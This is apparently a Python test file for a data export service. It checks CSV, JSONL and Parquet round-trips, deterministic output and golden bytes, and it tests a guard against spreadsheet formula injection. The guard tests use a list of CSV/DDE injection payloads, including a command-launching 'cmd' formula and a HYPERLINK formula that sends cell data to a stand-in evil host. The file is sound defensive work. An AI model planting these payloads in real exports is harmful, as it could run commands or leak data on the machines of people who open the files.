"""Each format gives back every row exactly, gives the same bytes for the same rows, and no cell is a formula."""

import csv as standard_csv
import io
import re
from collections.abc import Iterable, Sequence
from pathlib import Path

import orjson
import pyarrow.parquet as pq
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from services.exports import csv, jsonl, parquet
from services.exports.cells import Row, canonical, parsed
from services.exports.dataset import Column, Kind
from services.exports.formats import Codec, Format, codec
from tests.exports.rows import COLUMNS, rows

TEXT = (Column("note", Kind.TEXT),)
FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+41446681800",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1",
    "\r=1",
    "\n=1",
    '  =HYPERLINK("https://evil.example?"&A1)',
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
]


def written(name: Format, columns: Sequence[Column], content: Iterable[Row], directory: Path) -> Path:
    file = directory / f"file.{name}"
    file.write_bytes(b"".join(codec(name).encode(columns, content)))
    return file


@pytest.mark.parametrize("name", list(Format))
@given(content=st.lists(rows, max_size=3))
@settings(max_examples=80, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_every_row_is_given_back_exactly(name: Format, content: list[Row], tmp_path: Path) -> None:
    file = written(name, COLUMNS, content, tmp_path)

    assert list(codec(name).decode(COLUMNS, file)) == content


@pytest.mark.parametrize("kind", list(Kind))
@pytest.mark.parametrize("name", list(Format))
def test_null_is_not_the_empty_value(name: Format, kind: Kind, tmp_path: Path) -> None:
    empty = {Kind.TEXT: "", Kind.BYTES: "", Kind.TEXTS: "[]", Kind.JSON: "null"}.get(kind)
    content = [(None,), (empty,), (None,)]

    file = written(name, [Column("c", kind)], content, tmp_path)

    assert list(codec(name).decode([Column("c", kind)], file)) == content


def shown(text: str) -> str:
    """The cell that a program sees which reads CSV and knows nothing of our guard."""
    _, [cell] = standard_csv.reader(io.StringIO(b"".join(csv.encode(TEXT, [(text,)])).decode(), newline=""))
    return str(cell)


def is_dangerous(cell: str) -> bool:
    return cell[:1] in {"\t", "\r", "\n"} or cell.lstrip()[:1] in {*"=+-@", *"\uff1d\uff0b\uff0d\uff20"}


@given(text=st.sampled_from(FORMULAS) | st.text(st.sampled_from("=+-@\t\r\n' \",a1\uff1d"), min_size=1))
def test_no_text_is_a_formula_in_a_spreadsheet(text: str) -> None:
    assert not is_dangerous(shown(text))
    assert shown(text).removeprefix("'") == text


@pytest.mark.parametrize("text", FORMULAS)
def test_without_the_guard_each_of_these_would_be_one(text: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """The control."""
    monkeypatch.setattr(csv, "_DANGEROUS", re.compile("^never$"))

    assert is_dangerous(shown(text))


def test_the_golden_csv() -> None:
    """Byte by byte: header, CRLF, guards, quotes, NULL and the empty text, numbers as they are."""
    columns = [Column("who", Kind.TEXT), Column("n", Kind.INTEGER), Column("d", Kind.DECIMAL), Column("b", Kind.BYTES)]
    content: list[Row] = [
        ("=1+1", "-5", "-2.5000", "+/8="),
        ('say "no", then\r\nleave', None, "7.0000", None),
        ("", "0", None, ""),
        ("'quoted'", "1", "1.0000", "AAAA"),
        (None, None, None, None),
    ]

    assert b"".join(csv.encode(columns, content)) == (
        b"who,n,d,b\r\n"
        b"'=1+1,-5,-2.5000,'+/8=\r\n"
        b'"say ""no"", then\r\nleave",,7.0000,\r\n'
        b'"",0,,""\r\n'
        b"''quoted',1,1.0000,AAAA\r\n"
        b",,,\r\n"
    )


def test_the_golden_jsonl() -> None:
    columns = [Column("a", Kind.JSON), Column("n", Kind.INTEGER), Column("d", Kind.DECIMAL), Column("t", Kind.TEXTS)]
    content: list[Row] = [
        ('{"x":1.10}', "9223372036854775807", "1.0000", '["y"]'),
        ("null", "0", None, None),
        (None,) * 4,
    ]

    assert b"".join(jsonl.encode(columns, content)) == (
        b'{"a":{"x":1.10},"n":9223372036854775807,"d":"1.0000","t":["y"]}\n'
        b'{"a":null,"n":0,"d":null,"t":null}\n'
        b'{"n":null,"d":null,"t":null}\n'
    )


@given(row=rows)
def test_a_line_of_jsonl_is_one_json_object(row: Row) -> None:
    [line] = jsonl.encode(COLUMNS, [row])

    assert line.count(b"\n") == 1
    assert orjson.loads(line).keys() <= {column.name for column in COLUMNS}


def test_parquet_has_types_and_row_groups_of_a_fixed_size(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(parquet, "GROUP_ROWS", 100)
    monkeypatch.setattr(parquet, "GROUP_BYTES", 10_000)
    columns = [
        Column("n", Kind.INTEGER),
        Column("at", Kind.TIMESTAMP),
        Column("raw", Kind.BYTES),
        Column("x", Kind.TEXT),
    ]
    small: list[Row] = [(str(n), "2026-11-28T12:00:00.000001Z", "AAAA", "x") for n in range(250)]
    large: list[Row] = [("1", None, None, "y" * 6_000)] * 3

    file = written(Format.PARQUET, columns, small + large, tmp_path)

    metadata = pq.read_metadata(file)
    assert [metadata.row_group(n).num_rows for n in range(metadata.num_row_groups)] == [100, 100, 52, 1]
    assert [str(field.type) for field in pq.read_schema(file)] == ["int64", "timestamp[us, tz=UTC]", "binary", "string"]
    assert metadata.metadata is None


@pytest.mark.parametrize("name", list(Format))
def test_the_same_rows_give_the_same_bytes_and_others_do_not(name: Format) -> None:
    content: list[Row] = [("x", "1"), ("y", None)]
    columns = [Column("t", Kind.TEXT), Column("n", Kind.INTEGER)]

    first, again, other = (b"".join(codec(name).encode(columns, given)) for given in (content, content, content[::-1]))

    assert first == again
    assert first != other


@pytest.mark.parametrize("name", list(Format))
def test_a_file_of_other_columns_is_refused(name: Format, tmp_path: Path) -> None:
    file = written(name, [Column("a", Kind.TEXT)], [("x",)], tmp_path)

    with pytest.raises(ValueError, match="not the columns"):
        list(codec(name).decode([Column("b", Kind.TEXT)], file))


@pytest.mark.parametrize(
    ("name", "content", "why"),
    [
        (Format.CSV, b'note\r\n"open\r\n', "not whole"),
        (Format.CSV, b"note\r\nx\n", "RFC 4180"),
        (Format.CSV, b'note\r\nx"y"\r\n', "RFC 4180"),
        (Format.CSV, b"note\r\nx,y\r\n", "longer"),
        (Format.JSONL, b'{"note":"x"\n', "delimiter"),
        (Format.JSONL, b'{"note":1}\n', "not written so"),
        (Format.JSONL, b'["x"]\n', "not the columns"),
        (Format.JSONL, b'{"note":"x","more":"y"}\n', "not the columns"),
        (Format.JSONL, b'{"note":NaN}\n', "no JSON"),
    ],
)
def test_what_was_not_written_here_is_refused(name: Format, content: bytes, why: str, tmp_path: Path) -> None:
    file = tmp_path / "file"
    file.write_bytes(content)

    with pytest.raises(ValueError, match=why):
        list(codec(name).decode(TEXT, file))


@pytest.mark.parametrize(
    ("document", "text"),
    [
        ('{"b": 1.10, "a": [1e400, -0, 12345678901234567890]}', '{"a":[1e400,-0,12345678901234567890],"b":1.10}'),
        ('{"\\u20ac": 1, "\\ud83d\\ude00": 2, "\\ufb33": 3}', '{"€":1,"😀":2,"\ufb33":3}'),  # RFC 8785 §3.2.3
        ('"\\u000f\\n/\\u007f"', '"\\u000f\\n/\x7f"'),
        ("[true, false, null, {}, []]", "[true,false,null,{},[]]"),
    ],
)
def test_a_document_has_one_text(document: str, text: str) -> None:
    assert canonical(parsed(document)) == text
    assert canonical(parsed(text)) == text


def test_the_codecs_are_what_formats_promise() -> None:
    assert [codec(name) for name in Format] == [csv, jsonl, parquet]
    versions: list[Codec] = [codec(name) for name in Format]
    assert len({one.WRITER for one in versions}) == 3
